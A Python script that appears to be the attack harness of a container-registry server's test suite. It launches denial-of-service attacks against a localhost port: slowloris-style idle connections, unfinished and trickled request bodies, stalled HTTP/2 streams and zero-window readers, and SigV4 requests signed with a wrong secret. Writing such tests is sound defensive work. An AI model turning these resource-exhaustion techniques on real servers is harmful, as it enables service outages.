"""What strangers do to a server, in a process of their own: `python attacks.py <name> <port> <parameters as JSON>`.

An attack prints "begun" when it is at its height, and goes on until its standard input ends.
"""

import json
import random
import resource
import selectors
import socket
import sys
import threading
import time

import botocore.auth
import botocore.awsrequest
import botocore.credentials

from http2 import Connection

MIB = 1 << 20
over = threading.Event()


def connect(port, address="127.0.0.1"):
    client = socket.create_connection(("127.0.0.1", port), 10, source_address=(address, 0))
    client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return client


def forms(port, connections, streams):
    """Unsigned forms that do not end, on many streams."""
    def one():
        while not over.is_set():
            try:
                client = Connection(port)
            except OSError:
                time.sleep(0.1)
                continue
            numbers = [client.request("POST", "/", [("content-type", "application/x-www-form-urlencoded")], end=False)
                       for _ in range(streams)]
            left = dict.fromkeys(numbers, 124 << 10)
            until = time.monotonic() + random.uniform(4, 8)
            while time.monotonic() < until and not client.closed and not over.is_set():
                for number in numbers:
                    if left[number] and number not in client.resets:
                        left[number] -= client.data(number, left[number])
                time.sleep(0.05)
            client.close()
    return [one] * connections


def signed_head(port, key_id, operation, length):
    """A call of ECR that somebody signed who knows the id of a key and nothing else."""
    url, target = f"http://localhost:{port}/", f"AmazonEC2ContainerRegistry_V20150921.{operation}"
    request = botocore.awsrequest.AWSRequest("POST", url, data=b"", headers={
        "X-Amz-Target": target, "Content-Type": "application/x-amz-json-1.1", "Host": f"localhost:{port}"})
    credentials = botocore.credentials.Credentials(key_id, "a-secret-that-is-not-the-right-one")
    botocore.auth.SigV4Auth(credentials, "ecr", "us-east-1").add_auth(request)
    body = "Transfer-Encoding: chunked" if length is None else f"Content-Length: {length}"
    return (f"POST / HTTP/1.1\r\n{body}\r\n" + "".join(f"{k}: {v}\r\n" for k, v in request.headers.items())).encode() + b"\r\n"


def hold(client):
    """Waits until the server has had enough."""
    client.settimeout(0.5)
    while not over.is_set():
        try:
            if not client.recv(65536):
                return
        except TimeoutError:
            pass


def again_and_again(once):
    def one():
        while not over.is_set():
            try:
                once()
            except OSError:
                time.sleep(0.05)
    return one


def wrong_secret(port, key_id, count, address="127.0.0.1"):
    """Bodies of 1 MiB whose last bytes never come."""
    def once():
        with connect(port, address) as client:
            client.sendall(signed_head(port, key_id, "PutImage", MIB) + b"{" + b" " * (MIB - 11))
            hold(client)
    return [again_and_again(once)] * count


def trickle(port, key_id, count, address="127.0.0.1"):
    """Bodies without a length that come a little at a time."""
    def once():
        with connect(port, address) as client:
            client.sendall(signed_head(port, key_id, "UploadLayerPart", None))
            client.settimeout(0.01)
            while not over.is_set():
                client.sendall(b"800\r\n" + b" " * 2048 + b"\r\n")
                over.wait(1.0)
                try:
                    if not client.recv(65536):
                        return
                except TimeoutError:
                    pass
    return [again_and_again(once)] * count


def manifests(port, authorization, path, count, streams):
    """Manifests of 4 MiB, whose last bytes never come, by whoever may log in."""
    head = (f"PUT {path} HTTP/1.1\r\nHost: localhost:{port}\r\nAuthorization: {authorization}\r\n"
            f"Content-Length: {4 * MIB}\r\n\r\n").encode()

    def once():
        with connect(port) as client:
            client.sendall(head + b"{" + b" " * (4 * MIB - 11))
            hold(client)

    def many():
        client = Connection(port)
        numbers = [client.request("PUT", path, [("authorization", authorization)], end=False) for _ in range(streams)]
        left = dict.fromkeys(numbers, 4 * MIB - 10)
        until = time.monotonic() + 5
        while time.monotonic() < until and not client.closed and not over.is_set():
            for number in numbers:
                if number not in client.resets:
                    left[number] -= client.data(number, min(left[number], 256 << 10))
            time.sleep(0.01)
        client.close()
    return [again_and_again(once)] * count + [again_and_again(many)]


def uploads(port, authorization, count):
    """Layers of which some megabytes come, and then nothing, by whoever may push."""
    head = (f"POST /v2/field/app/blobs/uploads/?digest=sha256:{'0' * 64} HTTP/1.1\r\nHost: localhost:{port}\r\n"
            f"Authorization: {authorization}\r\nContent-Length: {50 * MIB}\r\n\r\n").encode()

    def once():
        with connect(port) as client:
            client.sendall(head + b" " * (3 * MIB))
            hold(client)
    return [again_and_again(once)] * count


def readers(port, authorization, path, connections, streams):
    """Readers of a layer that take no byte of it, and answer every ping."""
    def once():
        client = Connection(port, initial_window=0)
        numbers = [client.request("GET", path, [("authorization", authorization)]) for _ in range(streams)]
        while not client.closed and not over.is_set() and len(client.resets) < len(numbers):
            time.sleep(0.1)
        client.close()
    return [again_and_again(once)] * connections


def silent(port, count):
    """Connections that say nothing, or the first line of a request. What the server closes is opened again."""
    def all_of_them():
        waiting, open_ones = selectors.DefaultSelector(), 0
        while not over.is_set():
            while open_ones < count and not over.is_set():
                client = socket.socket()
                client.settimeout(5)
                try:
                    client.connect(("127.0.0.1", port))
                    if open_ones % 2:
                        client.sendall(b"GET /v2/ HTTP/1.1\r\n")
                except OSError:
                    client.close()
                    break
                client.setblocking(False)
                waiting.register(client, selectors.EVENT_READ)
                open_ones += 1
            for key, _ in waiting.select(0.05):
                waiting.unregister(key.fileobj)
                key.fileobj.close()
                open_ones -= 1
    return [all_of_them]


def main():
    name, port, parameters = sys.argv[1], int(sys.argv[2]), json.loads(sys.argv[3])
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    threading.stack_size(256 << 10)
    for one in globals()[name](port, **parameters):
        threading.Thread(target=one, daemon=True).start()
    time.sleep(2)
    print("begun", flush=True)
    sys.stdin.read()
    over.set()


if __name__ == "__main__":
    main()
